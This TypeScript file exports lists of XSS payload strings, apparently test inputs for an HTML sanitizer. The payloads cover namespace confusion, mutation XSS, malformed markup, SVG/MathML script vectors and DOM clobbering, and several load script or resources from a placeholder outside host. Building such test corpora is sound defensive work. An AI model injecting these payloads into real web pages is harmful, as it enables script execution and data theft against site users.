import { elsewhere, escapedPicture, picture, run, script } from './payloads.ts';

/** Elements whose content is text, or is parsed by rules of its own. */
const rawTextElements = [
  'iframe',
  'noembed',
  'noframes',
  'noscript',
  'plaintext',
  'select',
  'style',
  'textarea',
  'title',
  'xmp',
  'listing',
  'option',
];
export const rawTextEscapes = rawTextElements.flatMap((name) => [
  `<${name}>${picture}</${name}>words`,
  `<${name}><!--</${name}>${picture}-->words`,
  `<${name}><b title="</${name}>${picture}">words</b>`,
]);

const integrationPoints = [
  ...['foreignObject', 'desc', 'title'].map((name) => ['svg', name]),
  ...['mi', 'mtext', 'annotation-xml encoding=text/html', 'annotation-xml encoding=image/svg+xml'].map((name) => [
    'math',
    name,
  ]),
];
const unexpectedElements = [
  'style',
  'title',
  'textarea',
  'noscript',
  'xmp',
  'iframe',
  'template',
  'table',
  'select',
  'p',
];
/** Where SVG or MathML contain HTML, parsers disagree about comments and tags. */
export const namespaceConfusions = integrationPoints.flatMap(([root, point]) =>
  unexpectedElements.map(
    (name) =>
      `<${root}><${point}><${name}><!--</${name}><p title="--&gt;${escapedPicture}">${picture}</p></${root}>words`,
  ),
);

export const svgAndMathMl = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=${elsewhere}/x.js /></svg>`,
  `<svg><script xlink:href=data:,${run} /></svg>`,
  `<svg><a href=javascript:${run}><text y=9>words</text></a></svg>`,
  `<svg><a xlink:href=javascript:${run}><rect width=9 height=9 /></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text>words</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${run} /></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s /></svg>`,
  `<svg><use href=${elsewhere}/s.svg#x /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x" /></svg>`,
  `<svg><image href=${elsewhere}/i onload=${run} /></svg>`,
  `<svg><filter><feImage href=${elsewhere}/f /></filter></svg>`,
  `<svg><foreignObject><iframe src=javascript:parent.ran=1></iframe></foreignObject></svg>`,
  `<svg><style>@import "${elsewhere}/c"</style></svg>`,
  `<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>${run}</handler></svg>`,
  `<math href=javascript:${run}>words</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${run}>words</maction></math>`,
  `<math><mglyph src=${elsewhere}/g></math>`,
];

/** Parsing the serialized result again gives other elements. */
export const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escapedPicture}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${picture}`,
  `<svg></p><style><b title="</style>${picture}">`,
  `<math></br><style><b title="</style>${picture}">`,
  `<listing>${escapedPicture}</listing>`,
  `<pre>\n${escapedPicture}</pre>`,
  `<p><table><p>${escapedPicture}<tr><td>${picture}</table>`,
  `<table><caption><svg><desc><table><style><b id="</style>${picture}">`,
  `<select><option><style></option></select>${picture}</style>`,
  `<a><a><b><a>${picture}</a></b></a></a>`,
  `<b><p><b><p>${script}</b></p></b></p>`,
  `<noscript><p title="</noscript>${picture}">`,
  `<xmp><p title="</xmp>${picture}">`,
  `<div><template>${picture}<template>${script}</template></template></div>`,
  `<div><template shadowrootmode=open>${picture}<slot></slot></template>words</div>`,
  `<p><template shadowrootmode=closed><style>@import "${elsewhere}/c"</style></template></p>`,
  `${'<b>'.repeat(400)}${script}${picture}`,
  `${'<blockquote><p>'.repeat(150)}${picture}`,
];

/** Malformed comments, declarations and end tags. */
export const malformedMarkup = [
  `<!--><img src=x: onerror=${run}>-->`,
  `<!--!>${picture}-->`,
  `<!-- --!>${picture}`,
  `<!-- <!-- -->${picture}-->`,
  `<![CDATA[${picture}]]>`,
  `<?xml version="1.0"?>${picture}`,
  `<?xml-stylesheet href="${elsewhere}/x"?>words`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "${elsewhere}/e">]><p>&x;</p>`,
  `</ x=">${picture}">`,
  `<! x=">${picture}">`,
  `<% x=">${picture}">`,
  `</p ${picture}>`,
  `</body></html>${script}`,
  `</template></svg></math></title>${script}`,
];

/** A form's fields hide the form's own properties. */
export const clobberedForms = [
  'attributes',
  'childNodes',
  'children',
  'createElement',
  'firstChild',
  'getAttribute',
  'localName',
  'nodeName',
  'nodeType',
  'ownerDocument',
  'parentNode',
  'removeChild',
  'tagName',
  'textContent',
].map(
  (name) =>
    `<form onsubmit=${run}><p><input name=${name} onfocus=${run} autofocus></p><a id=${name} name=${name}>words</a></form>`,
);
